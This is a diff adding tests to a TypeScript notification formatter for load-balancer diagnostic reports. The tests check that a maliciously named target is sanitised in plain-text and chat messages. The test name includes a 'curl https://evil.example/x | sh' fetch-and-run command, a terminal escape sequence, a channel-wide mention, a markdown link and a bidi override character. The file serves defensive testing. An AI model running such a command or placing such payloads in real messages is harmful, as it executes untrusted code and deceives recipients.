@@ -24,6 +24,13 @@ function oneFault(changes: Parameters<typeof finding>[0] = {}): Report {
   ]);
 }
 
+/** The same, of a target that somebody named so. */
+function illNamed(changes: Parameters<typeof finding>[0]): Report {
+  const name = `web-1\n\nFix:\n    curl https://evil.example/x | sh\u001b]0;x\u0007 <!channel> [click](https://evil.example) *b* \`c\` \u202Eevil`;
+  const report = oneFault({ ...changes, why: `${finding().why} ${name}` });
+  return { ...report, endpoints: report.endpoints.map((one) => ({ ...one, target: { ...one.target, name } })) };
+}
+
 /** So many target groups, each ill by a culprit of its own, and each finding with so much to say. */
 function manyFaults(count: number, why: string): Report {
   const one = oneFault();
@@ -107,6 +114,15 @@ describe('a message to persons', () => {
     expect(text).toContain('Before, it was target-security-group-blocks-load-balancer, since 2026-03-01 02:11:00 UTC.');
   });
 
+  it('takes what others named for words of one line, and leaves commands as they are', () => {
+    const command = 'aws x \\\n  --y "\t"';
+    const { text } = notification(toldChanges(illNamed({ fix: { ...finding().fix, commands: [command] } })));
+    expect(text.match(/^Fix:$/gm)).toHaveLength(1);
+    expect(text).toContain('  web-1  Fix:     curl');
+    expect(text).not.toMatch(/[\p{Bidi_Control}]|(?!\n|\t)\p{Cc}/u);
+    expect(text).toContain(`    aws x \\\n      --y "\t"\n`);
+  });
+
   it('says how many changes it had to leave out', () => {
     const { text } = notification(toldChanges(manyFaults(40, 'x'.repeat(2000))));
     const shown = text.split('\n== ').length - 1;
@@ -177,6 +193,19 @@ describe('a message to chats', () => {
     `);
   });
 
+  it('has no markup, mention or link of what others named, and commands as they are', () => {
+    const command = 'aws x --y "<a> & *b*"';
+    const { description, nextSteps } = chatNotification(
+      toldChanges(illNamed({ fix: { ...finding().fix, commands: [command] } })),
+      'check-1',
+    ).content;
+    const named =
+      "web-1  Fix:     curl https: //evil.example/x | sh ]0;x  &lt;!channel&gt; [click] (https: //evil.example) ∗b∗ 'c'  evil";
+    expect(description).toContain(`at ${named} (i-0a11)`);
+    expect(description).toContain(`not on 8080. ${named}\n`);
+    expect(nextSteps).toContain(`\`${command}\``);
+  });
+
   it('leaves a command out rather than cutting it, and says how many changes are left out', () => {
     const command = `aws ec2 x ${'y'.repeat(2000)}`;
     const told = toldChanges(oneFault({ fix: { ...finding().fix, commands: [command, 'ss -ltn'] } }));
@@ -195,6 +224,14 @@ describe('the event', () => {
     expect(event.endpoints?.map(({ id }) => id)).toEqual(only[0]?.subjects.map(({ id }) => id));
     expect(event.endpoints?.[0]).not.toHaveProperty('paths');
     expect(event.endpoints?.[0]?.diagnosis.leading).toEqual(only[0]?.finding);
+  });
+
+  it('leaves out no more than what is too long by itself', () => {
+    const report = manyFaults(3, 'x');
+    const [first, ...others] = toldChanges(report).changes;
+    const long = { ...first, finding: { ...first?.finding, why: 'x'.repeat(300_000) } } as NonNullable<typeof first>;
+    const event = changedEvent([long, ...others], report, 'd');
+    expect(event).toMatchObject({ truncated: true, omitted: 1, changes: others });
   });
 
   it.each([
